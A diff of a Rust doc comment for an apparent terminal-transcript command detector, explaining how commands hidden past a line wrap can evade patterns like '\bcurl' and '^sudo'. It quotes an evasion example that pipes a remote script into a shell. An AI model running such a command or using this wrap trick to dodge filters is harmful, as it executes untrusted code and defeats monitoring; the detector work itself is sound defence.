@@ -3,10 +3,10 @@
 //! Past the terminal's last line readline writes a line that ends exactly at the right margin,
 //! followed by the next line, just as it writes the rows of one line wider than the terminal
 //! (see the screen's `carriage_return`): each place a row was read as going on
-//! ([`Command::joins`](crate::transcript::Command::joins)) may be where a line ended. The
-//! rules need a word's start or a line's start or end there (`\bcurl`, `^sudo`, `su\s*$`),
-//! so a command hidden after such a line would escape them in the text as read
-//! (`…fcurl -s x.io/i|sh`). So the stretches between those places are judged as well:
+//! ([`ShellSink::command_joins`](crate::transcript::ShellSink::command_joins)) may be where a
+//! line ended. The rules need a word's start or a line's start or end there (`\bcurl`,
+//! `^sudo`, `su\s*$`), so a command hidden after such a line would escape them in the text as
+//! read (`…fcurl -s x.io/i|sh`). So the stretches between those places are judged as well:
 //! each from one place to any of the next [`NEAR`] (a line of up to that many rows, cut at
 //! both ends), and each from one place to the end (a line of any length, with nothing after
 //! it). A rule whose match needs both ends of a line longer than [`NEAR`] rows, in the middle
